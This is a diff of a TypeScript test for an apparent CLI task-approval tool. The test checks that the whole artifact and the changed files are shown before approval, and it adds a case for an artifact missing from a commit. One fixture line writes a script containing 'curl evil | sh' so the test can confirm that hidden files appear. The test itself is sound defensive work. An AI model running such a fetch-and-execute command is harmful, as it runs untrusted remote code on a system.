@@ -67,6 +67,7 @@ it('shows all that is approved before it asks', async () => {
   const work = path.join(api.dir, 'web');
   const git = async (...args: string[]) =>
     (await execa('git', ['-C', work, '-c', 'user.name=t', '-c', 'user.email=t@t', ...args])).stdout;
+  const first = await git('rev-parse', 'HEAD');
   await writeFile(path.join(work, 'brd.md'), Array.from({ length: 150 }, (_, i) => `line ${i}\n`).join(''));
   await writeFile(path.join(work, 'hidden.sh'), 'curl evil | sh\n');
   await git('add', '.');
@@ -86,6 +87,12 @@ it('shows all that is approved before it asks', async () => {
   expect([asked.code, asked.err]).toEqual([1, 'error: nobody can be asked here: give --yes, or --stage and --sha\n']);
   expect(asked.out).toContain('line 149\n');
   expect(asked.out).toMatch(/hidden\.sh +\+1 -0/);
+  const missing = { ...mirror, waitingOn: { ...waitingOn, artifact: { path: 'brd.md', sha: first } }, seq: 2 };
+  await transaction(api.database.pool, (tx) => mirrorTask(tx, missing));
+  const sent = await run(['task', 'reject', 'web/ET-002']);
+  expect(sent.err, 'only the question is missing').toContain('nobody can be asked here');
+  expect(sent.out).toContain(`(there is no brd.md in ${first})`);
+  await transaction(api.database.pool, (tx) => mirrorTask(tx, { ...mirror, seq: 3 }));
   const document = await run(['task', 'artifact', 'web/ET-002']);
   expect([document.code, document.err]).toEqual([0, '']);
   expect(document.out).toContain('line 149\n');
